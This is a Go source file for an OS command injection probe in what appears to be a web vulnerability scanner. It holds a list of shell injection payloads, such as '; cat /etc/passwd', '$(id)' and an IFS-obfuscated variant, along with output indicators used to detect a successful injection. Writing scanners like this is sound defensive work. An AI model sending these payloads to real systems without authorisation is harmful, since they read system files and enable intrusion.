package vuln

import (
	"context"
	"fmt"

	"github.com/buemura/surface/internal/scanner"
	"github.com/buemura/surface/pkg/types"
)

const cmdiParam = "cmd"

var cmdiPayloads = []string{
	"; id",
	"; cat /etc/passwd",
	"; uname -a",
	"; ls -la",
	"| id",
	"| cat /etc/passwd",
	"&& id",
	"&& uname -a",
	"|| id",
	"& whoami",
	"`id`",
	"`cat /etc/passwd`",
	"$(id)",
	"$(cat /etc/passwd)",
	"$(uname -a)",
	"%0a id",
	"\n id",
	";/bin/cat${IFS}/etc/passwd",
	";cat</etc/passwd",
	";'i'd",
	"& type C:\\Windows\\win.ini",
	"| dir",
}

// cmdiIndicators are fragments of command output.
var cmdiIndicators = []string{
	"root:x:0:0",
	"uid=",
	"gid=",
	"groups=",
	"drwx",
	"-rw-",
	"[extensions]",
	"Volume in drive",
	"Directory of",
	"GNU/Linux",
	"Darwin Kernel",
}

type cmdiProbe struct{ base }

// NewCMDI creates the OS command injection probe.
func NewCMDI(cfg Config) scanner.Probe {
	return &cmdiProbe{newBase(cfg, CMDI, "OS command injection")}
}

func (p *cmdiProbe) Run(ctx context.Context, target types.Target, progress scanner.ProgressFunc) ([]types.Finding, error) {
	baseline := p.baseline(ctx, target, target.URL, cmdiParam)

	for _, payload := range cmdiPayloads {
		if ctx.Err() != nil {
			return nil, nil
		}
		progress.Notify(payload)

		testURL := withParam(target.URL, cmdiParam, payload)
		resp, err := p.get(ctx, target, testURL)
		if err != nil {
			p.skip(payload, err)
			continue
		}

		ind, ok := firstIndicator(resp.Body, baseline, cmdiIndicators)
		if !ok {
			continue
		}

		p.log.Warn("command injection", "url", testURL)
		return []types.Finding{{
			Name:        "Command Injection",
			Severity:    types.SeverityCritical,
			Description: "User input reaches a system shell; command output appeared in the response.",
			Evidence:    fmt.Sprintf("Payload %q, indicator %q, response preview: %s", payload, ind, truncate(resp.Body, 200)),
			URL:         testURL,
			Remediation: "Avoid shell invocation with user input. Use argument arrays and strict allow-lists.",
			Metadata: map[string]string{
				"param":     cmdiParam,
				"payload":   payload,
				"indicator": ind,
			},
		}}, nil
	}

	return nil, nil
}
